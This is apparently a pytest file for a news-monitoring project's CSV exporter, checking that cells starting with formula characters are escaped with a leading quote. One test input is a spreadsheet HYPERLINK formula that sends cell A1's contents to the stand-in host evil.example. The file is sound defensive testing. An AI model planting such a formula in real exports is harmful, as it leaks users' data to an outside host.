"""CSV exports never hand a spreadsheet a formula (monitor/archive/export.py), as a table of cells."""

from __future__ import annotations

import csv
import io

import pytest

from monitor.archive.export import csv_cell, to_csv

pytestmark = pytest.mark.pure


@pytest.mark.parametrize(("value", "cell"), [
    ('=HYPERLINK("http://evil.example/?leak="&A1,"Click")', '\'=HYPERLINK("http://evil.example/?leak="&A1,"Click")'),
    ("+1 (555) 0100", "'+1 (555) 0100"), ("-2+3", "'-2+3"), ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+1", "'\t=1+1"), ("\r=1+1", "'\r=1+1"),
    ("Binance denies the report", "Binance denies the report"), ("2022-04-22", "2022-04-22"), ("", ""),
    (None, ""), (0.9, 0.9), (-1, -1),
])
def test_cells(value: object, cell: object) -> None:
    assert csv_cell(value) == cell


def test_a_formula_in_a_headline_is_text_in_the_file() -> None:
    text = to_csv([{"title": "=1+1", "outlet": "Reuters", "confidence": 0.8}], ["title", "outlet", "confidence"])
    assert list(csv.DictReader(io.StringIO(text))) == [{"title": "'=1+1", "outlet": "Reuters", "confidence": "0.8"}]
